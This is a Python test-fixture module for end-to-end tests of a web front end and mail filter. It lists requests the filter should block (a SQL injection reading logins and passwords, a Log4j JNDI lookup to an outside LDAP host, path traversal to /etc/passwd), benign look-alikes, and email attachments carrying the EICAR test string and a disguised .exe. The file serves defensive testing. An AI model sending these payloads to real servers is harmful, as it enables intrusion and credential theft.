"""What the end-to-end tests send: one list, for the demo and for real servers behind the front end."""

from __future__ import annotations

import base64
import zipfile
from pathlib import Path

SQL = "1' UNION SELECT login, password FROM users -- "
LOOKUP = "${jndi:ldap://198.51.100.7/a}"

HTTP: dict[str, tuple[str, list[str]]] = {
    "query": ("/item?id=1%27%20UNION%20SELECT%20login,%20password%20FROM%20users%20--%20", []),
    "json": ("/api", ["-H", "Content-Type: application/json", "-d", f'{{"user": {{"name": "{SQL}"}}}}']),
    "multipart": ("/upload", ["-F", f"title={SQL}", "-F", "note=fine"]),
    "form": ("/login", ["--data-urlencode", f"user={SQL}"]),
    "cookie": ("/", ["-b", f"session=abc; id={SQL}"]),
    "user-agent": ("/", ["-A", SQL]),
    "referer": ("/", ["-e", f"http://www.example/?q={SQL}"]),
    "log4j": ("/", ["-A", LOOKUP]),
    "traversal": ("/static/../../../../etc/passwd", []),
    "encoded-traversal": ("/static/..%2f..%2f..%2f..%2fetc/passwd", []),
    "traversal-in-query": ("/show?file=../../../../etc/passwd", []),
}
"""Name: (target, curl's options). The front end refuses each with 403."""

CLEAN: dict[str, tuple[str, list[str]]] = {
    "page": ("/welcome?lang=en&page=2", []),
    "json": ("/api", ["-H", "Content-Type: application/json", "-d", '{"item": "tea", "note": "It\'s a good one"}']),
    "multipart": ("/upload", ["-F", "title=our union selected a new chair", "-F", "note=fine"]),
    "cookie": ("/", ["-b", "session=a8f3e2; theme=light"]),
    "browser": ("/", ["-A", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"]),
    "referer": ("/", ["-e", "https://www.example/shop?q=garden+chair"]),
}
"""What looks a little like them and is answered 200."""

# Assembled, so that no virus scanner takes this file for what it only describes.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + rb"TEST-FILE!$H+H*"

_MESSAGE = """\
From: Ada <ada@out.example>
To: user@one.example
Subject: {name}
Date: Mon, 05 Jan 2026 10:00:00 +0000
Message-ID: <{name}@out.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="m1me"

--m1me
Content-Type: text/plain; charset=utf-8

Please see the attachment.
--m1me
Content-Type: application/octet-stream; name="{file}"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="{file}"

{content}--m1me--
"""


def messages(folder: Path) -> dict[str, Path]:
    """Name: a file with a message that must be refused, written into `folder`."""
    packed = folder / "packed.zip"
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("report.txt", EICAR)
    return {
        "eicar": message(folder, "eicar", "report.txt", EICAR),
        "eicar-in-zip": message(folder, "eicar-in-zip", "report.zip", packed.read_bytes()),
        "double-extension": message(folder, "double-extension", "invoice.pdf.exe", b"MZ" + bytes(62)),
    }


def message(folder: Path, name: str, file: str, content: bytes) -> Path:
    """A message with one attachment, in a file."""
    path = folder / f"{name}.eml"
    encoded = base64.encodebytes(content).decode("ascii")
    path.write_text(_MESSAGE.format(name=name, file=file, content=encoded))
    return path
